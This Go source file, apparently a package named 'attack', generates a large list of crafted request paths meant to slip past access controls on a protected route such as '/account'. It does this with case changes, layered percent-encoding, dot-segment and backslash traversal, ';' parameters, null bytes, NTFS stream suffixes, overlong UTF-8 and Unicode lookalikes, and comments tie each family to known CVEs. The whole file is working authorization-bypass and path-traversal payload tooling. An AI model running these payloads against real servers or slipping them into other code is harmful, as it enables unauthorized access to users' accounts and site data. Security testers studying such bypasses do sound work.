package attack

import (
	"fmt"
	"strings"
)

// decoys are folders that shops leave open. Paths leads through them.
var decoys = []string{"/public", "/assets"}

// A spelling writes a path, which has a leading slash, in other ways.
type spelling func(path string) []string

// spellings are the families of Paths. Each names who reads a path like that,
// or who was broken into with it.
var spellings = []spelling{
	literally,       // the control group
	inOtherCase,     // IIS, Apache on Windows and macOS, CWE-178
	inEscapes,       // RFC 3986 §2.1; decoded twice: CVE-2001-0333, three times: chains of proxies
	withSlashes,     // nginx merge_slashes, Apache MergeSlashes (CVE-2019-0220), oauth2-proxy's skip rules
	withBackslashes, // IIS, Tomcat with ALLOW_BACKSLASH
	withDotSegments, // RFC 3986 §5.2.4; CVE-2021-41773, CVE-2021-42013 (%%32%65)
	withParameters,  // RFC 3986 §3.3; Tomcat's "..;" (Orange Tsai, Black Hat 2018), CVE-2020-5902
	cutShort,        // C strings, servers that decode first and split afterwards; CVE-2013-4547, CVE-2025-54576
	withEndings,     // Win32 names and NTFS streams: CVE-1999-0278, CVE-2007-2897
	inOtherLetters,  // overlong UTF-8 (CVE-2000-0884), IIS's %u, best-fit conversion (CVE-2024-4577), NFKC, case folding
	behindScripts,   // CGI's PATH_INFO (RFC 3875 §4.1.5), front controllers
	inAbsoluteForm,  // RFC 9112 §3.2.2
	asNetworkPath,   // PHP's parse_url and WHATWG's URL on a request target: "//host/path" (RFC 3986 §4.2)
	allAtOnce,
}

// Paths returns raw request targets that one server or another may read as
// protected: a path such as "/account", a slash and a lower-case letter first.
// They are to be sent as they are: they hold no blank and no line break, but any
// other byte, "#", "\" and control characters among them.
func Paths(protected string) []string {
	var all []string
	seen := map[string]bool{}
	for _, spell := range spellings {
		for _, target := range spell(protected) {
			if !seen[target] {
				seen[target] = true
				all = append(all, target)
			}
		}
	}
	return all
}

func literally(p string) []string { return []string{p, p + "?", p + "?x=1", p + "?/public/", p + "/"} }

func inOtherCase(p string) []string {
	mixed := []byte(p)
	for i := range mixed {
		if i%2 == 0 {
			mixed[i] = upper(p[i])
		}
	}
	return []string{strings.ToUpper(p), p[:1] + string(upper(p[1])) + p[2:], string(mixed), p[:len(p)-1] + string(upper(p[len(p)-1]))}
}

func upper(c byte) byte { return strings.ToUpper(string(rune(c)))[0] }

// escape percent-encodes a character in as many layers.
func escape(c byte, layers int) string {
	return "%" + strings.Repeat("25", layers-1) + fmt.Sprintf("%02x", c)
}

// escapeAll percent-encodes everything but slashes.
func escapeAll(p string, layers int) string {
	var b strings.Builder
	for i := range len(p) {
		if p[i] == '/' {
			b.WriteByte('/')
			continue
		}
		b.WriteString(escape(p[i], layers))
	}
	return b.String()
}

func inEscapes(p string) []string {
	var all []string
	for layers := 1; layers <= 3; layers++ {
		all = append(all,
			"/"+escape(p[1], layers)+p[2:],
			p[:len(p)-1]+escape(p[len(p)-1], layers),
			escapeAll(p, layers),
			"/"+escape(upper(p[1]), layers)+p[2:])
	}
	return append(all,
		"/"+strings.ToUpper(escape(p[1], 1))+p[2:],
		fmt.Sprintf("/%%%%%02x%%%02x%s", "0123456789abcdef"[p[1]>>4], "0123456789abcdef"[p[1]&15], p[2:]), // %%36%31
	)
}

// Ways to write a slash.
var slashes = []string{
	"%2f", "%2F", "%252f", "%25252f", "%%32%66", // encoded up to three times
	"%c0%af", "%25c0%25af", "%e0%80%af", "%u002f", "%25u002f", "%u2215", // overlong, and IIS's
	"%ef%bc%8f", "%e2%88%95", "%e2%81%84", "%25ef%25bc%258f", // full width, division slash, fraction slash
}

func withSlashes(p string) []string {
	all := []string{
		"/" + p, "//" + p, "////" + p, p + "//", p + "//x/..", strings.ReplaceAll(p, "/", "//") + "/", "/x/.." + "/" + p, "/x/" + "/.." + "/.." + p,
	}
	for _, slash := range slashes {
		all = append(all, "/"+slash+p[1:], p+slash, "/"+strings.ReplaceAll(p[1:]+"/x", "/", slash))
	}
	return all
}

var backslashes = []string{`\`, "%5c", "%5C", "%255c", "%25255c", "%c1%9c", "%25c1%259c", "%u005c", "%ef%bc%bc", "%c2%a5"}

func withBackslashes(p string) []string {
	all := []string{strings.ReplaceAll(p, "/", `\`), `/.\` + p[1:], `\/` + p[1:], `/\/` + p[1:]}
	for _, back := range backslashes {
		all = append(all, "/"+back+p[1:], p+back, "/public"+back+".."+back+p[1:], "/public/.."+back+p[1:])
	}
	return all
}

var dots = []string{
	".", "%2e", "%2E", "%252e", "%25252e", "%%32%65", "%c0%ae", "%25c0%25ae", "%e0%80%ae", "%u002e", "%25u002e",
	"%ef%bc%8e", "%e2%80%a4", "%e3%80%82",
}

func withDotSegments(p string) []string {
	all := []string{
		"/." + p, "/./." + p, "/x/.." + p, "/x/y/../.." + p, "/.." + p, "/../.." + p, p + "/.", p + "/./", p + "/x/..",
		p + "/../" + p[strings.LastIndexByte(p, '/')+1:], "/x/.%2e" + p, "/x/%2e." + p, "/x/.%252e" + p, "/x%2fy/../.." + p,
		"/x/../" + p, p + "%2f.", p + "%2f..", p + "/..%2f" + p[strings.LastIndexByte(p, '/')+1:], "/.../.." + p, "/.%00./" + p[1:],
	}
	for _, decoy := range decoys {
		all = append(all, decoy+"/.."+p, decoy+"/x/../.."+p, decoy+"//../.."+p, decoy+"/x.css/../.."+p, decoy+"/./.."+p)
	}
	for _, dot := range dots {
		for _, slash := range append([]string{"/", `\`, "%5c"}, slashes...) {
			all = append(all, "/public/"+dot+dot+slash+p[1:])
		}
		all = append(all, "/"+dot+p, "/assets%2f"+dot+dot+p)
	}
	return all
}

func withParameters(p string) []string {
	var all []string
	for _, semicolon := range []string{";", "%3b", "%3B", "%253b", "%ef%bc%9b", "%cd%be"} {
		all = append(all,
			p+semicolon, p+semicolon+"x=1", p+semicolon+"jsessionid=0123456789ABCDEF.node1", p+semicolon+".css", p+semicolon+"/x.css",
			p+semicolon+"/../public/x", "/"+semicolon+p, "/"+semicolon+"x=1"+p, "/public/.."+semicolon+p, "/public/.."+semicolon+"x=1"+p,
			"/public/."+semicolon+"/.."+p, "/public"+semicolon+"/.."+p, "/.."+semicolon+p, "/public/%2e%2e"+semicolon+p)
	}
	return append(all, p+";a=b;c=d", p+";x;.png?v=1", "/;a/;b"+p, "/x/..;/.."+p)
}

func cutShort(p string) []string {
	all := []string{p + "#", p + "#x", p + "#/public/", "/public/.." + p + "#.css", p + "?#", p + "?/../public", p + "/?.css"}
	for _, end := range []string{
		"%00", "%2500", "%252500", "%c0%80", "%25c0%2580", "%u0000", "%0a", "%250a", "%0d%0a", "%250d%250a", "%09", "%2509", "%0b", "%1a", "%7f",
		"%3f", "%253f", "%ef%bc%9f", "%23", "%2523", "%ef%bc%83", "\x00", "\t", "\x7f", "\x80",
	} {
		all = append(all, p+end, p+end+".css")
	}
	return append(all, "/%00"+p, "/%0a"+p, "/public%00/.."+p, "/public%2500/.."+p)
}

func withEndings(p string) []string {
	var all []string
	for _, end := range []string{
		".", "..", "...", "%2e", "%252e", "%20", "%2520", "%20.", ".%20", "%20%20", ".%20.", "+", "%a0", "%c2%a0", "%e3%80%80", "%25c2%25a0", "%e2%80%8b",
		"::$DATA", "::$data", "%3a%3a$DATA", "::$INDEX_ALLOCATION", ":$I30:$INDEX_ALLOCATION", ":x", "%253a%253a$DATA",
	} {
		all = append(all, p+end, p+end+"/")
	}
	return append(all, "/%20"+p, "/%20"+p[1:], "/+"+p[1:], "/..."+p, "/x/..%20"+p, "/public/.%20./.."+p, "/public/..%20"+p)
}

func inOtherLetters(p string) []string {
	first, rest := p[1], p[2:]
	wide := fmt.Sprintf("%%ef%%bd%%%02x", first+0x20)
	all := []string{
		"/" + wide + rest, "/%25ef%25bd%25" + fmt.Sprintf("%02x", first+0x20) + rest, wideAll(p),
		fmt.Sprintf("/%%u00%02x%s", first, rest), fmt.Sprintf("/%%25u00%02x%s", first, rest), fmt.Sprintf("/%%uff%02x%s", first-0x20, rest),
		fmt.Sprintf("/%%c1%%%02x%s", first&0x3f|0x80, rest), fmt.Sprintf("/%%25c1%%25%02x%s", first&0x3f|0x80, rest), // overlong
		fmt.Sprintf("/%%e0%%81%%%02x%s", first&0x3f|0x80, rest),
		"/" + string(first) + "\xcc\x81" + rest, // with an accent, as bytes
	}
	for _, nothing := range []string{"%e2%80%8b", "%e2%80%8d", "%c2%ad", "%ef%bb%bf", "%e2%81%a0", "%cd%8f"} {
		all = append(all, "/"+nothing+p[1:], p[:2]+nothing+rest, p+nothing)
	}
	for _, alike := range [][2]string{{"s", "%c5%bf"}, {"k", "%e2%84%aa"}, {"i", "%c4%b1"}, {"i", "%c4%b0"}} {
		all = append(all, strings.Replace(p, alike[0], alike[1], 1))
	}
	return append(all, mathematical(p), circled(p))
}

func wideAll(p string) string {
	return escapeRunes(p, func(c byte) rune { return rune(c) + 0xFEE0 })
}

// mathematical and circled letters are others to NFKC only (UAX #15).
func mathematical(p string) string {
	return escapeRunes(p, func(c byte) rune { return rune(c) - 'a' + 0x1D41A })
}

func circled(p string) string {
	return escapeRunes(p, func(c byte) rune { return rune(c) - 'a' + 0x24D0 })
}

// escapeRunes exchanges the lower-case letters of a path.
func escapeRunes(p string, other func(byte) rune) string {
	var b strings.Builder
	for i := range len(p) {
		if p[i] < 'a' || p[i] > 'z' {
			b.WriteByte(p[i])
			continue
		}
		for _, c := range []byte(string(other(p[i]))) {
			b.WriteString(escape(c, 1))
		}
	}
	return b.String()
}

func behindScripts(p string) []string {
	var all []string
	for _, script := range []string{"/index.php", "/INDEX.PHP", "/shop.aspx", "/default.asp", "/index.jsp", "/cgi-bin/shop.cgi", "/index.php;x", "/index.php/index.php"} {
		all = append(all, script+p)
	}
	return append(all, "/index.php/"+p, "/index.php/."+p, "/index.php/x/.."+p, "/index.php%2f"+p[1:], "/public/../index.php"+p, "/public/..;/index.php"+p, "/./index.php"+p+"/")
}

func inAbsoluteForm(p string) []string {
	return []string{
		"http://127.0.0.1" + p, "http://localhost" + p, "http://shop.example" + p, "HTTP://SHOP.EXAMPLE" + p, "https://shop.example" + p,
		"http://shop.example:80" + p, "http://user@shop.example" + p, "http://shop.example/" + p, "http://shop.example" + p + ";x", "http:" + p,
		"http://shop.example/public/.." + p, "http://shop.example/public/%2e%2e" + p, "http://" + p, "http://shop.example\\" + p[1:],
	}
}

func asNetworkPath(p string) []string {
	return []string{
		"//shop.example" + p, "//x" + p, "//x:80" + p, "//user@x" + p, "///x" + p, "////x" + p, "/\\x" + p, "/\\/x" + p, "/%2fx" + p, "/%5cx" + p,
		"//x/" + p, "//x/." + p, "//x/public/.." + p, "//x" + strings.ToUpper(p), "//x" + p + ";x", "//public" + p, "//[::1]" + p, "/%252fx" + p,
	}
}

func allAtOnce(p string) []string {
	up, last := strings.ToUpper(p), p[len(p)-1:]
	return []string{
		"/public/.;%2f..%2f.;" + p + ";x=1/", "/%2e;" + up + ".;x", "/public/%2e.;a\\%2e" + p + "%20", "/PUBLIC/..;" + wideAll(p) + ".",
		"/%252e%252e;" + escapeAll(p, 2) + "%2520", "//x//..//" + p + "..;v=1", "/public/%252e.%253bx" + up + "%2500.css",
		"/assets/..%5c" + up[1:] + "%2f.;x.css", "/public/%252e%252e%255c" + p[1:], "/public/x/..;/..%00" + p, "//public//..;//" + p + "//;x",
		"/%2e%2e%2f%2e%2e" + p + "%2f%2e", "/index.php;x/..;" + p, "/public/..%252f" + up[1:] + ";.png", "/assets/.%2e/" + p[1:len(p)-1] + escape(last[0], 2) + "::$DATA",
		"http://shop.example/public/..;" + up + "%20", "/./%2e/" + escapeAll(p, 1)[1:] + "/%2e%2e/" + p[1:], "/%5c..%5c" + up[1:] + "%3fx.css",
	}
}
